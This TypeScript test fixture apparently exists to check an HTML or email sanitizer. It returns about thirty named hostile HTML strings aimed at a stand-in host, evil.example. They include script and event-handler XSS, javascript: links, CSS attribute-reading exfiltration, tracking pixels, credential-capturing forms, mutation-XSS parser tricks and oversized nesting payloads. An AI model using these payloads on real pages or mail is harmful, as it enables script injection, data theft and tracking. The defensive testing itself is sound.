/**
 * What letters try: each would run, fetch, send or cover something if it were shown as it came. The
 * addresses are those of one host, so that a browser's requests to it can be counted.
 */
export function hostileLetters(host = 'https://evil.example'): Record<string, string> {
  const call = `fetch('${host}/run')`;
  return {
    script: `<p>Hello</p><script>${call}</script><script src="${host}/a.js"></script>`,
    handlers: `<img src=x onerror="${call}"><p onclick=${call} onmouseover="${call}">Hello</p><body onload="${call}">`,
    svg: `<svg onload="${call}"><script>${call}</script><image href="${host}/a.png"/><use href="${host}/a.svg#x"/></svg><p>Hello</p>`,
    'svg as a picture': `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"><p>Hello</p>`,
    'javascript links': `<a href="javascript:${call}">Hello</a><a href="java&#10;script:${call}">b</a><a href="&#1;javascript:${call}">c</a><a href="data:text/html,<script>${call}</script>">d</a><a href="vbscript:x">e</a>`,
    'meta and base': `<meta http-equiv="refresh" content="0;url=${host}/refresh"><base href="${host}/"><p>Hello</p><a href="page">x</a>`,
    'linked styles': `<link rel="stylesheet" href="${host}/a.css"><link rel="prefetch" href="${host}/b"><link rel="dns-prefetch" href="${host}"><style>@import "${host}/c.css"; p { background: url(${host}/d.png) }</style><p>Hello</p>`,
    'inline styles': `<p style="background:url(${host}/a.png);background-image:image-set('${host}/b.png' 1x);list-style:url(${host}/c.png);cursor:url(${host}/d.cur),auto;content:url(${host}/e.png)">Hello</p><p style="back\\67 round:u\\72l(${host}/f.png);width:expression(${call});-moz-binding:url(${host}/g.xml);behavior:url(${host}/h.htc)">b</p>`,
    'reading by styles': `<style>input[value^="a"]{background:url(${host}/a)} @font-face{font-family:x;src:url(${host}/font)} a[href*="token"]{--x:url(${host}/b)}</style><p style="font-family:x">Hello</p>`,
    overlay: `<div style="position:fixed;inset:0;z-index:99999;top:0;left:0;background:#fff;transform:scale(9);opacity:0;pointer-events:none;animation:x 1s">Hello</div>`,
    forms: `<form action="${host}/form"><input name=password type=password autofocus onfocus="${call}"><button formaction="${host}/b">Hello</button><textarea>x</textarea><select><option>y</option></select></form><isindex action="${host}/i">`,
    frames: `<iframe src="${host}/a"></iframe><iframe srcdoc="<script>${call}</script>"></iframe><object data="${host}/b"></object><embed src="${host}/c"><frameset><frame src="${host}/d"></frameset><applet code="x"></applet><portal src="${host}/e"></portal><p>Hello</p>`,
    media: `<video src="${host}/a" poster="${host}/b" autoplay></video><audio src="${host}/c" autoplay></audio><picture><source srcset="${host}/d"><img srcset="${host}/e 2x" src="${host}/f"></picture><bgsound src="${host}/g"><p>Hello</p>`,
    'old attributes': `<body background="${host}/a.png"><table background="${host}/b.png"><tr><td background="${host}/c.png">Hello</td></tr></table><img lowsrc="${host}/d.png" dynsrc="${host}/e.avi" longdesc="${host}/f"><a ping="${host}/g" href="${host}/page">x</a>`,
    'a spy': `<p>Hello</p><img src="${host}/spy.gif?u=1" width="1" height="1"><img src="${host}/spy2.gif" style="display:none">`,
    'mutation by noscript': `<noscript><p title="</noscript><img src=x onerror=${call}>">Hello</noscript><p>Hello</p>`,
    'mutation by math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;"></table></mtext></math><p>Hello</p>`,
    'mutation by svg style': `<svg></p><style><a id="</style><img src=1 onerror=${call}>"></svg><p>Hello</p>`,
    'mutation by form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}></style></form><p>Hello</p>`,
    'mutation by xmp': `<xmp><p title="</xmp><img src=x onerror=${call}>"></xmp><p>Hello</p><listing>&lt;img src=x onerror=${call}&gt;</listing>`,
    'mutation by template': `<template><s><template><s><img src=x onerror=${call}>X</s></template></s></template><p>Hello</p>`,
    'mutation by comment': `<p>Hello</p><!--><img src=x onerror=${call}>--><!--!><img src=x onerror=${call}--!><![CDATA[<img src=x onerror=${call}>]]>`,
    'broken tags': `<img """><script>${call}</script>"><<script>${call}//<</script><p/onclick=${call}>Hello</p><a href="x"onclick="${call}">y</a`,
    'hidden in quotes': `<div class="gmail_quote"><script>${call}</script><img src=x onerror=${call}></div><p class="x" id='"><script>${call}</script>'>Hello</p>`,
    'our own marks': `<details class="earlier"><summary onclick="${call}">x</summary>Hello</details><img data-picture="r0" src="${host}/x.png" onerror="${call}"><p>&lt;img data-picture="r0" onerror=${call}&gt;</p><a data-to="bank.example" target="_top">z</a>`,
    'links that navigate': `<a href="${host}/page" target="_top">Hello</a><map><area href="${host}/b" shape=default></map>`,
    'bytes of no charset': `<p>Hello \u0000 \uFFFD \uD800 +ADw-script+AD4-${call}+ADw-/script+AD4- \u202E<img src=x onerror=\u0000${call}></p>`,
    'a megabyte of nested tables': `<p>Hello</p>${'<table><tr><td>'.repeat(70_000)}<img src=x onerror=${call}>`,
    'a megabyte of tags': `<p>Hello</p>${'<b><i><script>'.repeat(70_000)}${call}`,
  };
}
